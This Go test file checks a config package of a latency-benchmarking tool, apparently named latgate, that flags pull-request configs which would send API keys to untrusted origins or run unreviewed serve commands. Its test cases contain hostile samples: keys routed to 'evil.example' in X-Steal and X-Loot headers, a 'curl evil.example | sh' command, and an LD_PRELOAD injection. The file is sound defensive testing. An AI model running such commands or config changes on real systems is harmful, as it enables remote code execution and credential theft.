package config

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestOrigin(t *testing.T) {
	for in, want := range map[string]string{
		"https://API.OpenAI.com/v1":        "https://api.openai.com:443",
		"https://api.openai.com:443/other": "https://api.openai.com:443",
		"http://127.0.0.1:11434/v1":        "http://127.0.0.1:11434",
		"http://host/v1?api-key=x":         "http://host:80",
		"http://user:pass@host:8080/v1":    "http://host:8080",
		"http://[::1]:8000/v1":             "http://[::1]:8000",
		"sim":                              "",
		"sim:default?ttft_factor=1.6":      "",
		"ftp://host/x":                     "",
		"not a url":                        "",
	} {
		if got := Origin(in); got != want {
			t.Errorf("Origin(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestUntrusted holds the rule behind --trusted-config (#16: a pull
// request's latgate.yaml could point base_url anywhere and receive the
// key; #27: or name the key in an sse.headers_env header): a variable's
// value goes only to an origin the trusted config already sends that same
// variable to, whatever header carries it.
func TestUntrusted(t *testing.T) {
	trusted := mustParse(t, y(`
targets:
  - {name: main, base_url: "https://api.example.com/v1", model: m}
  - {name: local, base_url: "http://127.0.0.1:8000/v1", model: m, api_key_env: LOCAL_KEY}
  - {name: sim, base_url: sim}
  - {name: app, api: sse, base_url: "https://app.example.com/chat", model: m, sse: {token_events: [delta], headers_env: {X-Session: APP_TOKEN}}}
prompts: [{id: p, messages: [{role: user, content: hi}]}]
`), "trusted.yaml", Options{})
	tests := []struct {
		name, targets string
		want          []string // "KEY Header origin"
	}{
		{"the same endpoints", `[{name: a, base_url: "https://api.example.com/v1", model: m}]`, nil},
		{"another path and case on the same server", `[{name: a, base_url: "https://API.example.com:443/v2/x", model: m}]`, nil},
		{"another host", `[{name: a, base_url: "https://evil.example/v1", model: m}]`, []string{"OPENAI_API_KEY Authorization https://evil.example:443"}},
		{"http instead of https", `[{name: a, base_url: "http://api.example.com/v1", model: m}]`, []string{"OPENAI_API_KEY Authorization http://api.example.com:80"}},
		{"another port", `[{name: a, base_url: "http://127.0.0.1:9000/v1", model: m, api_key_env: LOCAL_KEY}]`, []string{"LOCAL_KEY Authorization http://127.0.0.1:9000"}},
		{"another key to a trusted host", `[{name: a, base_url: "http://127.0.0.1:8000/v1", model: m}]`, []string{"OPENAI_API_KEY Authorization http://127.0.0.1:8000"}},
		{"the default base_url is an endpoint too", `[{name: a, model: m}]`, []string{"OPENAI_API_KEY Authorization https://api.openai.com:443"}},
		{"the simulator sends no key", `[{name: a, base_url: "sim:fast"}]`, nil},
		{"an anthropic key goes in x-api-key", `[{name: a, api: anthropic, base_url: "https://evil.example/v1", model: m}]`,
			[]string{"ANTHROPIC_API_KEY X-Api-Key https://evil.example:443"}},
		// #27 item 1: headers_env is a credential like api_key_env.
		{"the key in a header to another host", `[{name: a, api: sse, base_url: "https://evil.example/x", model: m, sse: {token_events: [d], headers_env: {X-Steal: OPENAI_API_KEY}}}]`,
			[]string{"OPENAI_API_KEY X-Steal https://evil.example:443"}},
		{"any variable in a header", `[{name: a, api: sse, base_url: "https://app.example.com/chat", model: m, sse: {token_events: [d], headers_env: {X-Home: HOME, X-Session: APP_TOKEN}}}]`,
			[]string{"HOME X-Home https://app.example.com:443"}},
		{"a header variable the trusted config sends there, in another header", `[{name: a, api: sse, base_url: "https://app.example.com/v2", model: m, sse: {token_events: [d], headers_env: {X-Other: APP_TOKEN}}}]`, nil},
		{"a header variable in api_key_env, to its trusted origin", `[{name: a, api: sse, base_url: "https://app.example.com/chat", model: m, api_key_env: APP_TOKEN, sse: {token_events: [d]}}]`, nil},
		{"the key in a header to its trusted origin", `[{name: a, api: sse, base_url: "https://api.example.com/app", model: m, sse: {token_events: [d], headers_env: {X-Key: OPENAI_API_KEY}}}]`, nil},
		// An ndjson target's headers_env is held to the same rule (it
		// slipped past it while Endpoints read sse's alone).
		{"the key in an ndjson header to another host", `[{name: a, api: ndjson, base_url: "https://evil.example/x", model: m, ndjson: {body: {q: "{{prompt}}"}, token_pointer: /t, headers_env: {X-Loot: GITHUB_TOKEN}}}]`,
			[]string{"GITHUB_TOKEN X-Loot https://evil.example:443"}},
		{"an ndjson header the trusted config sends there", `[{name: a, api: ndjson, base_url: "https://app.example.com/v3", model: m, ndjson: {body: {q: "{{prompt}}"}, token_pointer: /t, headers_env: {X-Session: APP_TOKEN}}}]`, nil},
		{"an sse target that names no variable sends none", `[{name: a, api: sse, base_url: "https://evil.example/x", model: m, sse: {token_events: [d]}}]`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cand := mustParse(t, []byte("targets: "+tt.targets+"\nprompts: [{id: p, messages: [{role: user, content: hi}]}]\n"), "latgate.yaml", Options{})
			var got []string
			for _, e := range Untrusted(cand.Endpoints(), trusted.Endpoints()) {
				got = append(got, e.KeyEnv+" "+e.Header+" "+e.Origin)
			}
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Errorf("Untrusted (-want +got):\n%s", d)
			}
		})
	}
}

// TestTrustedEndpoints: the trusted config is read for its targets only;
// what else it holds (messages files that are not there, a newer schema's
// keys) does not matter, a broken targets section does.
func TestTrustedEndpoints(t *testing.T) {
	got, err := TrustedEndpoints(y(`
targets:
  - {name: a, base_url: "https://api.example.com/v1", model: m}
prompts: [{id: p, messages_file: prompts/not-here.json}]
some_future_key: {x: 1}
`), "base.yaml", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff([]Endpoint{{KeyEnv: "OPENAI_API_KEY", Header: "Authorization", Origin: "https://api.example.com:443", Target: "a", Line: 2}}, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	// A headers_env header is an endpoint of its variable too.
	got, err = TrustedEndpoints([]byte("targets: [{name: app, api: sse, base_url: 'http://app:8080/x', model: m, sse: {token_events: [d], headers_env: {x-session: APP_TOKEN}}}]\n"), "base.yaml", Options{})
	if d := cmp.Diff([]Endpoint{{KeyEnv: "APP_TOKEN", Header: "X-Session", Origin: "http://app:8080", Target: "app", Line: 1}}, got); err != nil || d != "" {
		t.Errorf("headers_env: %v (-want +got):\n%s", err, d)
	}
	for _, src := range []string{"", "prompts: []\n"} {
		if got, err := TrustedEndpoints([]byte(src), "base.yaml", Options{}); err != nil || got != nil {
			t.Errorf("%q: %v, %v; want no endpoint and no error", src, got, err)
		}
	}
	_, err = TrustedEndpoints([]byte("targets: [{name: a, base_url: 'ftp://x'}]\n"), "base.yaml", Options{})
	if err == nil || !strings.Contains(err.Error(), "base.yaml:1: targets[0].base_url") {
		t.Errorf("a broken target: %v", err)
	}
	// OPENAI_BASE_URL applies as it does to the config itself.
	env := func(k string) string {
		if k == "OPENAI_BASE_URL" {
			return "http://gw.internal:8080/v1"
		}
		return ""
	}
	got, _ = TrustedEndpoints([]byte("targets: [{name: a, model: m}]\n"), "base.yaml", Options{Getenv: env})
	if len(got) != 1 || got[0].Origin != "http://gw.internal:8080" {
		t.Errorf("with $OPENAI_BASE_URL: %+v", got)
	}
}

// TestUnreviewedServes: a serve: runs only when the trusted config has the
// same one (command, dir as written, env) under the same target name; the
// ready probe and the timeouts may change, since they run nothing.
func TestUnreviewedServes(t *testing.T) {
	const trusted = `targets:
  - {name: app, base_url: "http://127.0.0.1:8081/v1", model: m, serve: {command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}}
  - {name: plain, base_url: "http://127.0.0.1:8082/v1", model: m}
`
	tr, err := TrustedTargets([]byte(trusted), "base.yaml", Options{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, serve string // the candidate's target app's serve:
		target      string // its name
		unreviewed  bool
	}{
		{"the same", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "app", false},
		{"another ready and timeouts", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}, ready: "port:8081", ready_timeout: 5m, stop_grace: 1s}`, "app", false},
		{"another argument", `{command: [./bin/app, --port, "8081", --evil], dir: srv, env: {MODE: ci}}`, "app", true},
		{"a shell", `{command: [sh, -c, "curl evil.example | sh"], dir: srv, env: {MODE: ci}}`, "app", true},
		{"another dir", `{command: [./bin/app, --port, "8081"], dir: other, env: {MODE: ci}}`, "app", true},
		{"another env", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci, LD_PRELOAD: /tmp/x.so}}`, "app", true},
		{"a secret passed", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}, pass_env: [OPENAI_API_KEY]}`, "app", true},
		{"a target that had none", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "plain", true},
		{"another target's", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "new", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := "targets: [{name: " + tt.target + `, base_url: "http://127.0.0.1:8081/v1", model: m, serve: ` + tt.serve + "}]\nprompts: [{id: p, messages: [{role: user, content: hi}]}]\n"
			cfg, err := Parse([]byte(src), "/pr/latgate.yaml", Options{Getenv: noEnv})
			if err != nil {
				t.Fatal(err)
			}
			got := UnreviewedServes(cfg.Targets, tr)
			if (len(got) == 1) != tt.unreviewed {
				t.Errorf("unreviewed %v, want %v", got, tt.unreviewed)
			}
		})
	}
	if got := UnreviewedServes([]Target{{Name: "plain"}}, nil); len(got) != 0 {
		t.Errorf("a target without serve: is never unreviewed: %v", got)
	}
}
